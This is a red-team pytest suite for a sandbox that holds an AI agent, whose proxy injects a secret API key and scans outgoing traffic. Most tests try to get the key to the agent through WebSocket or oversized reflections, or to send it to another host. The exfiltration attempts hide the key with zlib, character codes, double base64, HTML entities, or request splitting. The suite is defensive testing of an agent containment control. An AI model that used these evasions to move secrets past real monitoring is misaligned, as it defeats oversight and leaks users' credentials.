"""Red team: ways the real value of a bottle's secret could still reach the agent, or leave to a host
it is not for, found by attacking a real docker bottle. Each test is an attack; a hole that is not
fixed yet is marked ``xfail(strict=True)`` with the reason, so fixing it turns the suite red until the
mark goes.

A local HTTPS server (test CA) answers for ``reflect.test`` (the secret's host, which reflects what it
received, as an echo endpoint or an error page quoting the request would) and ``other.test`` (another
allowed host that records every request). The bottle's secret ``RT_KEY`` goes in ``x-api-key`` to
``reflect.test`` only.
"""

from __future__ import annotations

import base64
import json
import secrets
import string
import subprocess
import sys
import time
import uuid
import zlib
from collections.abc import Iterator

import pytest
from tests.integration.dockerkit import TEST_LABEL, AgentBottle, Env, connect, docker
from tests.integration.testca import TlsService

from claude_bottle.identity import Names

pytestmark = pytest.mark.integration

NAMES = ("reflect.test", "other.test")
ALNUM = string.ascii_letters + string.digits
REAL = "sk-ant-api03-" + "".join(secrets.choice(ALNUM) for _ in range(80)) + "AA"

# Records every request; on a WebSocket upgrade it sends back, as text frames, the x-api-key header it
# got, raw and hex (a reflecting host); ``/echo`` reflects the headers in a plain response.
SERVER = r"""
import base64, hashlib, http.server, json, ssl
LOG = "/tmp/requests.jsonl"
def frame(text):
    data = text.encode()
    n = len(data)
    head = bytes([0x81, n]) if n < 126 else bytes([0x81, 126, n >> 8, n & 255])
    return head + data
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def handle_one(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        with open(LOG, "a") as f:
            f.write(json.dumps({"host": self.headers.get("Host"), "path": self.path,
                                "headers": dict(self.headers.items()),
                                "body": base64.b64encode(body).decode()}) + "\n")
        if self.headers.get("Upgrade", "").lower() == "websocket":
            accept = base64.b64encode(hashlib.sha1((self.headers["Sec-WebSocket-Key"]
                     + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest()).decode()
            self.send_response(101); self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade"); self.send_header("Sec-WebSocket-Accept", accept)
            self.end_headers()
            key = self.headers.get("x-api-key", "")
            self.wfile.write(frame("raw " + key)); self.wfile.write(frame("hex " + key.encode().hex()))
            self.wfile.flush()
            self.close_connection = True
            self.rfile.read(2)
            return
        out = json.dumps(dict(self.headers.items())).encode()
        if self.path.startswith("/big"):  # past the proxy's 1 MiB streaming threshold
            out = b"x" * (3 * 1024 * 1024) + out
        self.send_response(200); self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(out))); self.end_headers(); self.wfile.write(out)
    do_GET = do_POST = handle_one
    def log_message(self, *a): pass
srv = http.server.ThreadingHTTPServer(("0.0.0.0", 443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain("/certs/server.pem", "/certs/server.key")
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
srv.serve_forever()
"""

BOTTLE = """---
egress:
  allow:
    - {host: reflect.test, private: true}
    - {host: other.test, private: true}
secrets:
  RT_KEY:
    from: ${CB_REDTEAM_KEY}
    hosts: [reflect.test]
    header: x-api-key
    format: "{value}"
---
"""

# The agent's WebSocket client: CONNECT, TLS, upgrade, then print every frame the server sends.
WS_CLIENT = r"""
const http = require('http'), tls = require('tls'), crypto = require('crypto');
const host = 'reflect.test', proxy = new URL(process.env.HTTPS_PROXY);
http.request({host: proxy.hostname, port: proxy.port, method: 'CONNECT', path: host + ':443'})
  .on('connect', (res, sock) => {
    if (res.statusCode !== 200) { console.log('connect ' + res.statusCode); process.exit(0); }
    const s = tls.connect({socket: sock, servername: host}, () => s.write(
      `GET /ws HTTP/1.1\r\nHost: ${host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
      `x-api-key: ${process.env.RT_KEY}\r\n` +
      `Sec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\n` +
      'Sec-WebSocket-Version: 13\r\n\r\n'));
    let buf = Buffer.alloc(0), head = false;
    s.on('data', d => {
      buf = Buffer.concat([buf, d]);
      if (!head) {
        const i = buf.indexOf('\r\n\r\n'); if (i < 0) return;
        console.log(buf.slice(0, i).toString().split('\r\n')[0]); head = true; buf = buf.slice(i + 4);
      }
      while (buf.length >= 2) {
        let n = buf[1] & 127, off = 2;
        if (n === 126) { if (buf.length < 4) return; n = buf.readUInt16BE(2); off = 4; }
        if (buf.length < off + n) return;
        console.log('frame ' + buf.slice(off, off + n).toString()); buf = buf.slice(off + n);
      }
    });
    setTimeout(() => process.exit(0), 4000);
    s.on('error', e => { console.log('error ' + e.message); process.exit(0); });
  }).end();
"""


class Reflector(TlsService):
    names = NAMES
    script = SERVER
    prefix = "cb-redteam"

    def received(self) -> list[dict[str, object]]:
        return self.records()

    def everything_received(self) -> str:
        """Every request as text: headers, path and the body (decoded from the record's base64)."""
        return "\n".join(json.dumps(r) + base64.b64decode(str(r["body"])).decode("latin-1")
                         for r in self.received())


Bottle = AgentBottle

@pytest.fixture(scope="module")
def reflector(env: Env, images: None) -> Iterator[Reflector]:
    with Reflector(env.home, label=TEST_LABEL) as ref:
        yield ref


@pytest.fixture(scope="module")
def bottle(env: Env, reflector: Reflector) -> Iterator[Bottle]:
    (env.home / "bottles").mkdir(exist_ok=True)
    (env.home / "agents").mkdir(exist_ok=True)
    (env.home / "bottles" / "redteam-secrets.md").write_text(BOTTLE)
    (env.home / "agents" / "rt-secrets.md").write_text("---\nbottle: redteam-secrets\n---\nAttack.\n")
    (env.home / "upstream-ca.pem").write_bytes(reflector.trust_bundle())
    environ = {**env.environ, "CB_REDTEAM_KEY": REAL}
    up = subprocess.run([sys.executable, "-m", "claude_bottle", "up", "rt-secrets", "--no-workspace",
                         "--detach", "--yes", "--json"], env=environ, cwd=env.workdir, capture_output=True,
                        text=True, timeout=900, check=False)
    assert up.returncode == 0, up.stderr
    b = Bottle(json.loads(up.stdout)["slug"], env)
    try:
        connect(reflector.network, Names(b.slug).bundle, NAMES)
        yield b
    finally:
        docker("network", "disconnect", "--force", reflector.network, Names(b.slug).bundle, check=False)
        env.cli("down", b.slug, "--yes", "--discard", check=False)


def test_control_the_key_is_injected_and_a_plain_reflection_is_swapped(bottle: Bottle,
                                                                       reflector: Reflector) -> None:
    out = bottle.sh('curl -sS --max-time 20 -H "x-api-key: $RT_KEY" https://reflect.test/echo')
    assert out.returncode == 0, out
    assert REAL not in out.stdout
    assert any(r["headers"].get("x-api-key") == REAL for r in reflector.received())  # type: ignore[union-attr]


def test_a_websocket_reflecting_the_injected_key_shows_the_agent_only_its_placeholder(bottle: Bottle) -> None:
    """The proxy puts the real key into the upgrade request; a host that sends it back in a WebSocket
    message (not an HTTP response) must not hand it to the agent, raw or encoded."""
    out = bottle.node(WS_CLIENT)
    assert "101" in out.stdout, out
    assert REAL not in out.stdout, "the real key reached the agent in a WebSocket message"
    assert REAL.encode().hex() not in out.stdout, "the real key (hex) reached the agent"


# -- the agent holds the real value (found in the workspace, say) and tries to send it elsewhere -------
def _decimal(value: str) -> str:
    return ",".join(str(c) for c in value.encode())


EVASIONS = {
    "zlib-body": ("--data-binary @/tmp/payload -H 'Content-Type: application/octet-stream'",
                  zlib.compress(REAL.encode())),
    "decimal-char-codes": ("--data-binary @/tmp/payload", _decimal(REAL).encode()),
    "base64-of-base64": ("--data-binary @/tmp/payload", base64.b64encode(base64.b64encode(REAL.encode()))),
    "html-entities": ("--data-binary @/tmp/payload", "".join(f"&#{c};" for c in REAL.encode()).encode()),
}


# Fixed (issue 6): zlib streams are unpacked, character codes, HTML entities and base64 blobs decoded.
@pytest.mark.parametrize("how", sorted(EVASIONS))
def test_encoded_real_value_does_not_reach_another_host(bottle: Bottle, reflector: Reflector,
                                                        how: str) -> None:
    args, payload = EVASIONS[how]
    marker = uuid.uuid4().hex
    # through base64: a text pipe would re-encode the binary payloads (zlib) as UTF-8 and garble them
    bottle.sh("base64 -d > /tmp/payload", stdin=base64.b64encode(payload).decode())
    bottle.sh(f"curl -sS --max-time 20 -o /dev/null {args} https://other.test/{marker}")
    time.sleep(0.5)
    arrived = [r for r in reflector.received() if marker in str(r["path"])]
    assert not arrived, f"{how}: the encoded real value reached other.test"


# Fixed (issue 6): the scanner remembers small fields across requests per host (dlp.History).
def test_real_value_split_across_many_requests_does_not_reach_another_host(bottle: Bottle,
                                                                           reflector: Reflector) -> None:
    marker = uuid.uuid4().hex
    pieces = [REAL[i:i + 10] for i in range(0, len(REAL), 10)]
    script = "; ".join(f"curl -sS --max-time 20 -o /dev/null 'https://other.test/{marker}?i={i}&p={p}'"
                       for i, p in enumerate(pieces))
    bottle.sh(script, timeout=120)
    time.sleep(0.5)
    got = sorted((r for r in reflector.received() if marker in str(r["path"])),
                 key=lambda r: int(str(r["path"]).split("i=")[1].split("&")[0]))
    rebuilt = "".join(str(r["path"]).split("p=")[1] for r in got)
    assert REAL not in rebuilt, "the pieces reassemble to the real value on the other host"


def test_a_big_reflection_of_the_injected_key_is_not_streamed_past_the_check(bottle: Bottle) -> None:
    """Responses past 1 MiB stream to the agent (big downloads), but not one to a request the proxy put
    the real value in: that one is read whole and the value swapped for its placeholder."""
    out = bottle.sh('curl -sS --max-time 30 -H "x-api-key: $RT_KEY" https://reflect.test/big | tail -c 2000')
    assert out.returncode == 0, out
    assert REAL not in out.stdout and "x-api-key" in out.stdout.lower(), out.stdout[-300:]
